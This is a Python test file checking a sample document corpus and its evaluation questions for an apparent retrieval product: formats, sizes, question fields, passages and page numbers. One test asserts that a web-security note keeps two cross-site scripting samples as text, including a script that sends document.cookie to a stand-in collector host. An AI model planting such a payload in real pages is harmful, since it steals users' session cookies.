"""The sample corpus and its questions are what they claim to be.

In: `data/` as committed, read through the product's own loaders. Must not: judge retrieval or answers.
"""

import json
import re
import subprocess
import sys
from collections import Counter
from functools import cache
from pathlib import Path
from typing import Any

import pytest

from ingest.documents import LoadedDocument, load

ROOT = Path(__file__).resolve().parents[2]
CORPUS = ROOT / "data" / "corpus"
SOURCES = ROOT / "data" / "sources"
BUILD = ROOT / "scripts" / "build_corpus.py"
MANUAL = "products/magpie-2-manual.pdf"
MAX_BINARY_BYTES = 200_000

DOCUMENTS = sorted(path.relative_to(CORPUS).as_posix() for path in CORPUS.rglob("*") if path.is_file())
QUESTIONS: list[dict[str, Any]] = [
    json.loads(line) for line in (ROOT / "data" / "eval" / "questions.jsonl").read_text(encoding="utf-8").splitlines()
]
ANSWERABLE = [question for question in QUESTIONS if question["answerable"]]
UNANSWERABLE = [question for question in QUESTIONS if not question["answerable"]]


@cache
def loaded(document: str) -> LoadedDocument:
    return load(CORPUS / document)


def found(document: str, passage: str) -> int | None:
    """Offset of a passage in the document's text, where any white space equals any other; None if it is not there."""
    match = re.search(r"\s+".join(map(re.escape, passage.split())), loaded(document).text)
    return match.start() if match else None


def test_the_corpus_has_every_supported_format() -> None:
    formats = Counter(Path(document).suffix for document in DOCUMENTS)
    assert len(DOCUMENTS) >= 12
    assert formats.keys() == {".txt", ".md", ".html", ".pdf", ".docx", ".csv"}
    assert min(formats[".md"], formats[".pdf"], formats[".docx"], formats[".csv"]) >= 2


def test_the_same_name_stands_in_two_folders_with_different_content() -> None:
    texts = {loaded(document).text for document in DOCUMENTS if document.endswith("/readme.md")}
    assert len(texts) == 2


@pytest.mark.parametrize("document", DOCUMENTS)
def test_a_document_is_read_whole(document: str) -> None:
    assert len(loaded(document).text.split()) > 100
    assert all(note.startswith("left out: ") for note in loaded(document).notes)  # running headers, navigation


def test_the_corpus_is_of_a_size_that_one_can_read() -> None:
    assert 10_000 <= sum(len(loaded(document).text.split()) for document in DOCUMENTS) <= 16_000


def test_questions_have_the_documented_fields() -> None:
    for question in QUESTIONS:
        assert list(question) == ["id", "question", "answerable", "document", "passage"], question
        assert isinstance(question["answerable"], bool)
        assert question["question"].strip().endswith("?")
        kind = str if question["answerable"] else type(None)
        assert isinstance(question["document"], kind)
        assert isinstance(question["passage"], kind)


def test_no_question_stands_twice() -> None:
    assert len({question["id"] for question in QUESTIONS}) == len(QUESTIONS)
    assert len({question["question"] for question in QUESTIONS}) == len(QUESTIONS)


def test_there_are_enough_questions_of_both_kinds() -> None:
    assert len(ANSWERABLE) >= 36
    assert len(UNANSWERABLE) >= 6


def test_every_document_is_asked_about() -> None:
    assert {question["document"] for question in ANSWERABLE} == set(DOCUMENTS)


@pytest.mark.parametrize("question", ANSWERABLE, ids=lambda question: question["id"])
def test_a_passage_stands_in_its_document(question: dict[str, Any]) -> None:
    assert found(question["document"], question["passage"]) is not None, question["passage"]


@pytest.mark.parametrize("question", ANSWERABLE, ids=lambda question: question["id"])
def test_a_question_is_no_copy_of_its_passage(question: dict[str, Any]) -> None:
    asked = set(re.findall(r"\w+", question["question"].lower()))
    answer = set(re.findall(r"\w+", question["passage"].lower()))
    assert answer - asked, "the question holds its own answer"
    assert len(asked & answer) < 0.75 * len(asked)


def test_questions_reach_many_pages_of_the_manual() -> None:
    text = loaded(MANUAL)
    offsets = [found(MANUAL, question["passage"]) for question in ANSWERABLE if question["document"] == MANUAL]
    pages = {text.pages.page_at(offset) for offset in offsets if offset is not None}
    assert len(text.pages.offsets) >= 6
    assert len(pages) >= 6


def test_a_fault_number_is_on_the_page_that_the_manual_names() -> None:
    offset = found(MANUAL, "F-31 and F-33 look alike and are not the same")
    assert offset is not None
    assert loaded(MANUAL).pages.page_at(offset) == 8


def test_samples_of_markup_and_braces_are_kept_as_text() -> None:
    note = loaded("it/web-security-note.txt").text
    assert "<img src=x onerror=alert(document.cookie)>" in note
    assert "<script>fetch('https://collector.example/?c=' + document.cookie)</script>" in note
    how_to = loaded("it/bench-terminals.md").text
    assert '{"a": {b}}' in how_to
    assert "`{question}`" in how_to
    assert "# comment: keep this file below 64 kB" in how_to


def test_scripts_navigation_and_hidden_text_of_the_page_are_not_content() -> None:
    text = loaded("products/heron-care-guide.html").text
    assert "SPRING26" not in text
    assert "Basket (0)" not in text
    assert "Internal remark" not in text


def test_generated_files_equal_what_their_sources_make() -> None:
    result = subprocess.run([sys.executable, BUILD, "--check"], capture_output=True, text=True, check=False)
    assert result.returncode == 0, f"run python scripts/build_corpus.py\n{result.stdout}{result.stderr}"


def test_every_generated_file_has_a_source_and_is_small() -> None:
    binaries = {document for document in DOCUMENTS if document.endswith((".pdf", ".docx"))}
    assert {path.relative_to(SOURCES).as_posix().removesuffix(".md") for path in SOURCES.rglob("*.md")} == binaries
    assert all((CORPUS / document).stat().st_size < MAX_BINARY_BYTES for document in binaries)


def test_a_changed_source_is_noticed_and_built(tmp_path: Path) -> None:
    source = tmp_path / "sources" / "bells.pdf.md"
    source.parent.mkdir()
    source.write_text(
        "---\ntitle: Bells\nauthor: A\nheader: H\n---\n\n# Bells\n\nA bell has 80 dB.\n", encoding="utf-8"
    )
    command = [sys.executable, str(BUILD), "--sources", str(source.parent), "--corpus", str(tmp_path / "corpus")]
    assert subprocess.run([*command, "--check"], capture_output=True, check=False).returncode == 1
    assert subprocess.run(command, capture_output=True, check=False).returncode == 0
    assert subprocess.run([*command, "--check"], capture_output=True, check=False).returncode == 0
    assert "A bell has 80 dB." in load(tmp_path / "corpus" / "bells.pdf").text
